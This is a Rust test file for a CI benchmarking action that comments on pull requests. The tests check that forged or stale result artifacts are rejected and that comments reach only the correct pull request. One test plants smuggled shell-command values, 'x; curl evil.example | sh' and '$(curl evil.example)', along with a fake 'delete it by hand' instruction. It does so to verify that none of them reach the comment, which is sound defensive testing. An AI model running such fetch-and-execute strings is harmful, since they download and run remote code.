//! The result of another workflow, which a pull request can forge, and comments of older commits.

use serde_json::{Value, json};

use crate::support::Simulator;
use crate::support::github::{Failure, GitHub};
use crate::support::runner::{HEAD, PULL_REQUEST, Runner, comments};

const OLDER: &str = "0123456789012345678901234567890123456789";

/// A measured folder, whose result is about [`HEAD`].
fn measured(github: &GitHub, simulator: &Simulator) -> (Runner, Value) {
    let runner = Runner::measured(github, simulator);
    let result = runner.workspace.read("sagegate-results/result.json");
    (runner, serde_json::from_str(&result).unwrap())
}

fn pull(label: &str, sha: &str) -> Value {
    json!({ "number": PULL_REQUEST, "head": { "label": label, "sha": sha } })
}

fn heading(github: &GitHub) -> String {
    let comment = comments(github).pop().unwrap();
    let line = comment.lines().find(|line| line.starts_with("### "));
    line.unwrap().to_owned()
}

#[test]
fn no_comment_of_an_older_commit_stands_for_one_that_cannot_be_judged() {
    let (github, simulator) = (GitHub::start(), Simulator::quick());
    let (runner, mut result) = measured(&github, &simulator);
    result["commit"] = OLDER.into();
    let older = result.to_string();
    result["commit"] = HEAD.into();
    let half = older.get(..older.len() / 2).unwrap().to_owned();
    let forged = [
        ("half a result", Some(half)),
        ("a string", Some("\"CANARY\"".to_owned())),
        ("a result of another commit", Some(older.clone())),
        ("a folder", None),
    ];
    let mut runner = runner.publishing("mallory", OLDER);
    for with_name in [true, false] {
        runner = if with_name {
            runner.input("name", "churn")
        } else {
            runner.without("INPUT_NAME")
        };
        for (what, content) in &forged {
            let _ = std::fs::remove_dir(runner.workspace.path("sagegate-results/result.json"));
            runner
                .workspace
                .write("sagegate-results/result.json", &older);
            github.world().pulls = vec![pull("mallory:faster", OLDER)];
            runner = runner.publishing("mallory", OLDER);
            runner.step().expect(0);
            assert!(
                heading(&github).contains("churn: no baseline yet"),
                "{what}"
            );
            let path = runner.workspace.path("sagegate-results/result.json");
            std::fs::remove_file(&path).unwrap();
            match content {
                Some(text) => runner.workspace.write("sagegate-results/result.json", text),
                None => std::fs::create_dir(&path).unwrap(),
            }
            github.world().pulls = vec![pull("mallory:faster", HEAD)];
            runner = runner.publishing("mallory", HEAD);
            let step = runner.step().expect(2);
            let now = heading(&github);
            assert!(
                now.starts_with("### ⛔ churn could not be judged: "),
                "{what}, name {with_name}: {now}"
            );
            let all = comments(&github);
            assert!(
                all.len() == 1 && all[0].contains(&format!("sha={HEAD}")),
                "{all:?}"
            );
            assert!(!all[0].contains("CANARY"));
            assert_eq!(step.output("verdict"), "could-not-measure", "{what}");
        }
    }
}

#[test]
fn the_name_of_the_workflow_decides_and_not_that_of_the_result() {
    let (github, simulator) = (GitHub::start(), Simulator::quick());
    let (runner, _) = measured(&github, &simulator);
    github.world().pulls = vec![pull("mallory:faster", HEAD)];
    let step = { runner.publishing("mallory", HEAD).input("name", "fraud") }
        .step()
        .expect(2);
    assert!(
        heading(&github).contains("fraud could not be judged: "),
        "{}",
        heading(&github)
    );
    assert!(
        step.summary.contains("is about model \\`churn\\`"),
        "{}",
        step.summary
    );
}

#[test]
fn nothing_of_an_artifact_becomes_an_instruction_and_the_comment_says_where_numbers_come_from() {
    let (github, simulator) = (GitHub::start(), Simulator::quick());
    let (runner, mut result) = measured(&github, &simulator);
    result["cleanup"]["left"] =
        json!([{ "kind": "endpoint", "name": "production", "reason": "delete it by hand" }]);
    result["model_name"] = "x; curl evil.example | sh".into();
    result["samples"]["source"] = "$(curl evil.example)".into();
    runner
        .workspace
        .write("sagegate-results/result.json", &result.to_string());
    github.world().pulls = vec![pull("mallory:faster", HEAD)];
    { runner.publishing("mallory", HEAD) }.step().expect(0);
    let comment = comments(&github).pop().unwrap();
    for forged in ["delete by hand", "production", "sagegate run", "curl evil"] {
        let visible = comment.split("<details>").next().unwrap();
        assert!(!visible.contains(forged), "{forged}: {comment}");
    }
    assert!(
        comment.contains(
            "the numbers come from the pull request's own workflow run and are not verified"
        ),
        "{comment}"
    );
}

#[test]
fn a_result_larger_than_any_run_is_refused_at_once() {
    let (github, simulator) = (GitHub::start(), Simulator::quick());
    let (mut runner, result) = measured(&github, &simulator);
    github.world().pulls = vec![pull("mallory:faster", HEAD)];
    let size = result["stability"][0].clone();
    let mut short = size.clone();
    short["invocations"] = json!([]);
    short["warmup"] = json!([]);
    let many = vec![short; 1000];
    for (pointer, value, words) in [
        (
            "/stability",
            json!(many),
            "a memory size is there more than once",
        ),
        ("/name", json!("n".repeat(2000)), "name has 2000 bytes"),
        (
            "/stability/0/invocations/0/2",
            json!(-5.0),
            "of a call is -5e0",
        ),
        (
            "/stability/0/invocations/0/2",
            json!(1e308),
            "of a call is 1e308",
        ),
    ] {
        let mut forged = result.clone();
        *forged.pointer_mut(pointer).unwrap() = value;
        runner
            .workspace
            .write("sagegate-results/result.json", &forged.to_string());
        runner = runner.publishing("mallory", HEAD).input("name", "churn");
        let step = runner.step().expect(2);
        assert!(step.summary.contains(words), "{}", step.summary);
        assert!(step.outcome.stderr.len() < 10_000);
        let all = ["compare", "report", "record"];
        for command in all {
            let outcome =
                runner
                    .workspace
                    .sagegate(&[command, "--result", "sagegate-results/result.json"]);
            assert_eq!(outcome.code, Some(2), "{command}");
        }
    }
}

#[test]
fn a_pull_request_of_another_branch_with_the_same_commit_is_not_commented_on() {
    let (github, simulator) = (GitHub::start(), Simulator::quick());
    let (mut runner, _) = measured(&github, &simulator);
    // A server that ignores the filter.
    let others = [
        json!([{ "number": 1, "head": { "label": "victim:faster", "sha": HEAD } }]),
        json!([{ "number": 1, "head": { "label": "mallory:other", "ref": "other", "sha": HEAD } }]),
        json!([{ "number": 1, "head": {
            "label": "mallory:faster", "ref": "faster", "sha": HEAD,
            "repo": { "owner": { "login": "victim" } },
        } }]),
        json!([{ "number": 1, "head": { "label": "mallory:faster", "ref": "slower", "sha": HEAD } }]),
    ];
    for answer in others {
        let failure = Failure {
            body: answer.to_string(),
            ..Failure::new("GET", "/pulls?", 200, "")
        };
        github.fail(failure);
        runner = runner.publishing("mallory", HEAD);
        let step = runner.step().expect(0);
        assert!(
            step.annotations("notice")[0].contains("no open pull request has"),
            "{:?}",
            step.commands()
        );
    }
    assert!(github.world().bodies(1).is_empty() && comments(&github).is_empty());
}

#[test]
fn a_job_that_cannot_be_collected_leaves_no_older_comment_standing() {
    let (github, simulator) = (GitHub::start(), Simulator::quick());
    let mut runner = Runner::with_aws(&github, &simulator).model("m");
    runner.step().expect(0);
    assert!(heading(&github).contains("churn: no baseline yet"));
    let mut runner = runner
        .input("command", "collect")
        .input("job", "sagegate-1-1-88b207");
    let step = runner.step().expect(2);
    assert!(
        heading(&github).starts_with("### ⛔ churn could not be judged: "),
        "{}",
        heading(&github)
    );
    assert_eq!(step.output("verdict"), "could-not-measure");
}

#[test]
fn a_folder_that_cannot_be_written_to_keeps_no_older_comment() {
    let (github, simulator) = (GitHub::start(), Simulator::quick());
    let mut runner = Runner::with_aws(&github, &simulator).model("m");
    runner.step().expect(0);
    runner.workspace.write("file", "not a folder");
    let step = { runner.input("output-dir", "file/results") }
        .step()
        .expect(2);
    assert!(
        heading(&github).starts_with("### ⛔ churn could not be measured: "),
        "{}",
        heading(&github)
    );
    assert_eq!(step.output("result-json"), "");
}
